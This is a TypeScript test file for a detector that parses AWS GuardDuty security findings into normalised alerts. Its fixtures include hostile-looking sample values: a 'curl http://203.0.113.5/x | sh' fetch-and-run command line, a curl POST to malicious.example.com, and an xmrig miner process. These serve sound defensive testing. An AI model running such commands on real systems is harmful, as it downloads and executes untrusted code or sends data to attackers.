import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fixtureLine, sampleLine } from './helpers.js';
import { assertClaimsNoForeignSample, autoDetectedSamples, hostileVariants, obs, propertyChecks, registry, runner } from './json-detector-helpers.js';

const gd = await runner('aws_guardduty');
const reg = await registry();
const anon = sampleLine('aws_guardduty', 'findings.jsonl', 1);
const tor = sampleLine('aws_guardduty', 'findings.jsonl', 2);
const rds = sampleLine('aws_guardduty', 'findings.jsonl', 3);

test('every sample is auto-detected as aws_guardduty and parses to one alert', () => {
  autoDetectedSamples(gd, 'aws_guardduty', 3);
});

test('sniff: no other product sample is claimed', () => {
  assertClaimsNoForeignSample(gd, 'aws_guardduty');
});

test('EKS anonymous access: severity 8 is high, caller IP, Kubernetes user, cluster as the asset', () => {
  const a = gd.alert(anon);
  assert.equal(a.title, 'Kubernetes API commonly used in Persistence tactics invoked by the anonymous user.');
  assert.deepEqual(a.rule, { id: 'Persistence:Kubernetes/SuccessfulAnonymousAccess', name: 'Persistence:Kubernetes/SuccessfulAnonymousAccess', category: 'Persistence' });
  assert.equal(a.event_type, 'Persistence:Kubernetes/SuccessfulAnonymousAccess'); // the finding type
  assert.equal(a.severity, 80);
  assert.equal(a.severity_label, 'high');
  assert.equal(a.vendor_severity?.value, '8');
  assert.equal(a.action, 'detected');
  assert.deepEqual(a.src, { ip: '175.16.199.1' });
  assert.deepEqual(a.user, { name: 'system:anonymous' });
  assert.deepEqual(a.host, { name: 'GeneratedFindingEKSClusterName', id: 'GeneratedFindingEKSClusterArn' });
  // "count":2: the second occurrence, at eventLastSeen; the id carries the count.
  assert.equal(a.vendor_id, '250023a9abcdefabcdef12345678:2');
  assert.equal(a.time, '2022-11-22T12:22:20.000Z');
});

test('EKS Tor caller: medium, threat intelligence name, Kubernetes user wins over the access key', () => {
  const a = gd.alert(tor);
  assert.equal(a.severity, 50);
  assert.equal(a.severity_label, 'medium');
  assert.equal(a.malware?.name, 'GeneratedFindingThreatName');
  assert.deepEqual(a.user, { name: 'GeneratedFindingUserName' });
  assert.deepEqual(a.src, { ip: '175.16.199.1' });
});

test('RDS anomalous login: count 1 at eventFirstSeen, RDS user and instance', () => {
  const a = gd.alert(rds);
  assert.equal(a.vendor_id, '5abcdefabcdefabcdef2a123456789f6:1');
  assert.equal(a.time, '2022-12-07T10:28:35.000Z');
  assert.equal(a.rule?.category, 'CredentialAccess');
  assert.deepEqual(a.user, { name: 'GeneratedFindingUserName' });
  assert.deepEqual(a.host, { name: 'GeneratedFindingDBInstanceId', id: 'arn:aws:rds:us-east-1:123456789000:db:GeneratedFindingDBInstanceId' });
  assert.deepEqual(a.src, { ip: '175.16.199.1' });
});

const ec2 = (action: Record<string, unknown>, extra: Record<string, unknown> = {}) => JSON.stringify({
  schemaVersion: '2.0', accountId: '111122223333', region: 'eu-west-1', partition: 'aws', id: 'f1', arn: 'arn:aws:guardduty:eu-west-1:111122223333:detector/d/finding/f1',
  type: 'UnauthorizedAccess:EC2/SSHBruteForce', title: 't', description: 'd', severity: 2.5, createdAt: '2024-01-01T00:00:00.000Z', updatedAt: '2024-01-01T01:00:00.000Z',
  resource: {
    resourceType: 'Instance',
    instanceDetails: {
      instanceId: 'i-0abc', platform: 'Linux', tags: [{ key: 'Name', value: 'web-1' }],
      networkInterfaces: [{ privateIpAddress: '172.31.5.6', privateDnsName: 'ip-172-31-5-6.eu-west-1.compute.internal', publicIp: '52.1.2.3' }],
    },
    accessKeyDetails: { userName: 'deploy-bot', principalId: 'AIDA' },
  },
  service: { serviceName: 'guardduty', action, eventFirstSeen: '2024-01-01T00:00:00.000Z', eventLastSeen: '2024-01-01T00:30:00.000Z', count: 1, ...extra },
});

test('EC2 actions: inbound and outbound connections, port probe, DNS, API call; low severity', () => {
  const inbound = gd.alert(ec2({ actionType: 'NETWORK_CONNECTION', networkConnectionAction: { connectionDirection: 'INBOUND', protocol: 'TCP', blocked: false, remoteIpDetails: { ipAddressV4: '198.51.100.4' }, remotePortDetails: { port: 40000 }, localPortDetails: { port: 22 }, localIpDetails: { ipAddressV4: '172.31.5.6' } } }));
  assert.deepEqual(inbound.src, { ip: '198.51.100.4', port: 40000 });
  assert.deepEqual(inbound.dst, { ip: '172.31.5.6', port: 22 });
  assert.deepEqual(inbound.host, { id: 'i-0abc', name: 'web-1', ip: '172.31.5.6', os: 'Linux' });
  assert.equal(inbound.severity, 25);
  assert.equal(inbound.severity_label, 'low');
  assert.ok(obs(inbound).includes('ip:52.1.2.3:host'));
  const outbound = gd.alert(ec2({ actionType: 'NETWORK_CONNECTION', networkConnectionAction: { connectionDirection: 'OUTBOUND', blocked: true, remoteIpDetails: { ipAddressV4: '203.0.113.8' }, remotePortDetails: { port: 6667 }, localPortDetails: { port: 51000 }, localIpDetails: { ipAddressV4: '172.31.5.6' } } }));
  assert.deepEqual(outbound.dst, { ip: '203.0.113.8', port: 6667 });
  assert.equal(outbound.action, 'blocked');
  const probe = gd.alert(ec2({ actionType: 'PORT_PROBE', portProbeAction: { blocked: false, portProbeDetails: [{ localPortDetails: { port: 3389 }, remoteIpDetails: { ipAddressV4: '192.0.2.50' } }, { localPortDetails: { port: 3389 }, remoteIpDetails: { ipAddressV4: '192.0.2.51' } }] } }));
  assert.deepEqual(probe.src, { ip: '192.0.2.50' });
  assert.deepEqual(probe.dst, { port: 3389 });
  assert.ok(obs(probe).includes('ip:192.0.2.51:src'));
  const dns = gd.alert(ec2({ actionType: 'DNS_REQUEST', dnsRequestAction: { domain: 'Pool.MiningExample.COM', protocol: 'UDP', blocked: false } }));
  assert.equal(dns.domain, 'pool.miningexample.com');
  assert.deepEqual(dns.dst, { host: 'Pool.MiningExample.COM' });
  const api = gd.alert(ec2({ actionType: 'AWS_API_CALL', awsApiCallAction: { api: 'GetCallerIdentity', serviceName: 'sts.amazonaws.com', remoteIpDetails: { ipAddressV4: '198.51.100.99' }, domainDetails: { domain: 'evil.example.org' } } }));
  assert.deepEqual(api.src, { ip: '198.51.100.99' });
  assert.deepEqual(api.user, { name: 'deploy-bot' });
  assert.equal(api.domain, 'evil.example.org');
});

test('Elastic pipeline-test findings: S3 API call from a malicious IP, EC2 outbound WinRM brute force', () => {
  const s3 = gd.alert(fixtureLine('aws_guardduty', 'guard_duty_findings.jsonl', 1), 'auto');
  assert.equal(s3.event_type, 'Impact:S3/MaliciousIPCaller');
  assert.deepEqual(s3.src, { ip: '81.2.69.144' }); // awsApiCallAction.remoteIpDetails
  assert.deepEqual(s3.user, { name: 'GeneratedFindingUserName' }); // accessKeyDetails.userName
  assert.deepEqual(s3.host, { id: 'i-99999999', name: 'GeneratedFindingPrivateDnsName', ip: '10.0.0.1' });
  assert.equal(s3.time, '2022-01-28T21:12:25.000Z'); // count 4: the latest occurrence
  const winrm = gd.alert(fixtureLine('aws_guardduty', 'guard_duty_findings.jsonl', 2), 'auto');
  assert.equal(winrm.rule?.id, 'Impact:EC2/WinRMBruteForce');
  assert.deepEqual(winrm.src, { ip: '10.0.0.23', port: 32794 }); // OUTBOUND: the instance is the source
  assert.deepEqual(winrm.dst, { ip: '81.2.69.144', port: 5985 });
  assert.equal(winrm.severity_label, 'low');
});

test('Elastic pipeline-test findings: DNS request to a blackholed name, Runtime Monitoring docker socket access', () => {
  const dns = gd.alert(fixtureLine('aws_guardduty', 'guardduty_dns_runtime.jsonl', 1), 'auto');
  assert.equal(dns.event_type, 'Trojan:EC2/BlackholeTraffic!DNS');
  assert.deepEqual(dns.dst, { host: 'GeneratedFindingDomainName' }); // a single label: no registrable domain
  assert.equal(dns.domain, undefined);
  assert.equal(dns.action, 'blocked');
  const rt = gd.alert(fixtureLine('aws_guardduty', 'guardduty_dns_runtime.jsonl', 2), 'auto');
  assert.equal(rt.event_type, 'PrivilegeEscalation:Runtime/DockerSocketAccessed');
  assert.deepEqual(rt.host, { id: 'i-abcd1234', name: 'buildserver-a-0', ip: '10.30.30.15' }); // the Name tag
  assert.deepEqual(rt.process, { name: 'sshd', pid: 2345, command_line: '/usr/bin/curl -X POST http://malicious.example.com' });
  assert.deepEqual(rt.file, { name: 'malicious_file.bin', path: '/tmp/malicious_file.bin' }); // threatFilePath
  assert.deepEqual(rt.user, { name: 'admin' }); // the process's OS user: no access key in a runtime finding
  assert.ok(obs(rt).includes('ip:216.160.83.56:host'));
});

test('Elastic pipeline-test findings: IAM Tor caller, EC2 DoS backdoor, inbound custom threat list, S3 policy, Kubernetes, RDS', () => {
  const iam = gd.alert(fixtureLine('aws_guardduty', 'guardduty_iam_backdoor.jsonl', 1), 'auto');
  assert.equal(iam.event_type, 'UnauthorizedAccess:IAMUser/TorIPCaller');
  assert.equal(iam.rule?.category, 'UnauthorizedAccess');
  assert.deepEqual(iam.src, { ip: '81.2.69.144' });
  assert.deepEqual(iam.user, { name: 'GeneratedFindingUserName' });
  assert.equal(iam.malware?.name, 'GeneratedFindingThreatName'); // threatIntelligenceDetails
  const dos = gd.alert(fixtureLine('aws_guardduty', 'guardduty_iam_backdoor.jsonl', 2), 'auto');
  assert.equal(dos.rule?.id, 'Backdoor:EC2/DenialOfService.Tcp');
  assert.deepEqual(dos.src, { ip: '10.0.0.23', port: 24198 });
  assert.deepEqual(dos.dst, { ip: '81.2.69.144', port: 80 });
  assert.equal(dos.severity_label, 'high');
  const inbound = gd.alert(fixtureLine('aws_guardduty', 'guardduty_ec2_inbound_s3_policy.jsonl', 1), 'auto');
  assert.equal(inbound.event_type, 'UnauthorizedAccess:EC2/MaliciousIPCaller.Custom');
  assert.deepEqual(inbound.src, { ip: '81.2.69.144', port: 5711 }); // INBOUND: the remote side is the source
  assert.deepEqual(inbound.dst, { ip: '10.0.0.23', port: 3389 });
  const policy = gd.alert(fixtureLine('aws_guardduty', 'guardduty_ec2_inbound_s3_policy.jsonl', 2), 'auto');
  assert.equal(policy.event_type, 'Policy:S3/AccountBlockPublicAccessDisabled');
  assert.equal(policy.rule?.category, 'Policy');
  assert.equal(policy.severity_label, 'low');
  assert.deepEqual(policy.user, { name: 'GeneratedFindingUserName' });
  const k8s = gd.alert(fixtureLine('aws_guardduty', 'guardduty_kubernetes_rds.jsonl', 1), 'auto');
  assert.equal(k8s.event_type, 'Discovery:Kubernetes/TorIPCaller');
  assert.deepEqual(k8s.host, { name: 'GeneratedFindingEKSClusterName', id: 'GeneratedFindingEKSClusterArn' });
  assert.deepEqual(k8s.src, { ip: '175.16.199.1' });
  const rds = gd.alert(fixtureLine('aws_guardduty', 'guardduty_kubernetes_rds.jsonl', 2), 'auto');
  assert.equal(rds.event_type, 'CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin');
  assert.equal(rds.host?.name, 'GeneratedFindingDBInstanceId');
  assert.deepEqual(rds.user, { name: 'GeneratedFindingUserName' }); // rdsDbUserDetails.user
  assert.equal(rds.time, '2022-12-07T10:28:35.000Z');
  const exec = gd.alert(fixtureLine('aws_guardduty', 'guardduty_kubernetes_exec.jsonl', 1), 'auto');
  assert.equal(exec.event_type, 'Execution:Kubernetes/ExecInKubeSystemPod');
  assert.deepEqual(exec.src, { ip: '81.2.69.144' }); // remoteIpDetails before sourceIPs[0]
  assert.deepEqual(exec.user, { name: 'GeneratedFindingUserName' }); // kubernetesUserDetails.username
  assert.equal(exec.vendor_id, '12bf5144204c599bf635e5cbfad907e1:1');
});

test('EventBridge envelope, GetFindings page, runtime process and malware scan', () => {
  const finding = JSON.parse(ec2({ actionType: 'DNS_REQUEST', dnsRequestAction: { domain: 'x.example.com' } })) as Record<string, unknown>;
  const env = gd.alert(JSON.stringify({ version: '0', id: 'ev', 'detail-type': 'GuardDuty Finding', source: 'aws.guardduty', account: '111122223333', time: '2024-01-01T00:00:00Z', region: 'eu-west-1', resources: [], detail: finding }));
  assert.equal(env.vendor_id, 'f1:1');
  const page = gd.alerts(JSON.stringify({ findings: [JSON.parse(anon), JSON.parse(rds)] }));
  assert.deepEqual(page.map((a) => a.vendor_id), ['250023a9abcdefabcdef12345678:2', '5abcdefabcdefabcdef2a123456789f6:1']);
  assert.match(gd.error('{"findings":[]}'), /empty/);
  const runtime = JSON.parse(ec2({})) as { service: Record<string, unknown> };
  runtime.service.runtimeDetails = { process: { name: 'xmrig', executablePath: '/tmp/xmrig', executableSha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', pid: 777 } };
  runtime.service.ebsVolumeScanDetails = { scanDetections: { threatDetectedByName: { threatNames: [{ name: 'Linux.Miner', severity: 'HIGH', filePaths: [{ filePath: '/opt/x/', fileName: 'm', hash: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752' }] }] } } };
  const r = gd.alert(JSON.stringify(runtime));
  assert.deepEqual(r.process, { name: 'xmrig', pid: 777 });
  assert.equal(r.file?.path, '/tmp/xmrig');
  assert.equal(r.malware?.name, 'Linux.Miner');
  assert.ok(obs(r).includes('sha256:60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752:file'));
  // Runtime Monitoring context: the command line, the threat's file beside the process, the OS user.
  runtime.service.runtimeDetails = {
    process: { name: 'bash', executablePath: '/usr/bin/bash', executableSha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', pid: 42, user: 'www-data' },
    context: { commandLineExample: 'bash -c "curl http://203.0.113.5/x | sh"', threatFilePath: '/tmp/x.sh' },
  };
  delete (runtime as { resource?: { accessKeyDetails?: unknown } }).resource?.accessKeyDetails;
  const ctx = gd.alert(JSON.stringify(runtime));
  assert.deepEqual(ctx.process, { name: 'bash', pid: 42, command_line: 'bash -c "curl http://203.0.113.5/x | sh"' });
  assert.deepEqual(ctx.file, { name: 'x.sh', path: '/tmp/x.sh' });
  assert.deepEqual(ctx.user, { name: 'www-data' });
  assert.ok(obs(ctx).includes('sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08:process'));
});

test('malformed records are rejected with a reason', () => {
  const base = JSON.parse(anon) as Record<string, unknown>;
  assert.match(gd.error(JSON.stringify({ ...base, severity: 'HIGH' })), /severity/);
  assert.match(gd.error(JSON.stringify({ ...base, createdAt: 'x', service: { eventFirstSeen: 'soon' } })), /eventFirstSeen/);
  assert.match(gd.error(JSON.stringify({ ...base, title: null, type: null })), /title/);
  assert.match(gd.error(JSON.stringify({ ...base, service: 'x' })), /service/);
  assert.match(gd.error('{"source":"aws.guardduty","detail":"x"}'), /detail/);
});

test('hostile values never crash or hang the detector', () => {
  assert.ok(hostileVariants('aws_guardduty', reg, [anon, rds]) > 1000);
});

test('property: arbitrary JSON and mutated samples only ever raise ParseError', () => {
  propertyChecks(gd.detector, [anon, tor, rds]);
});
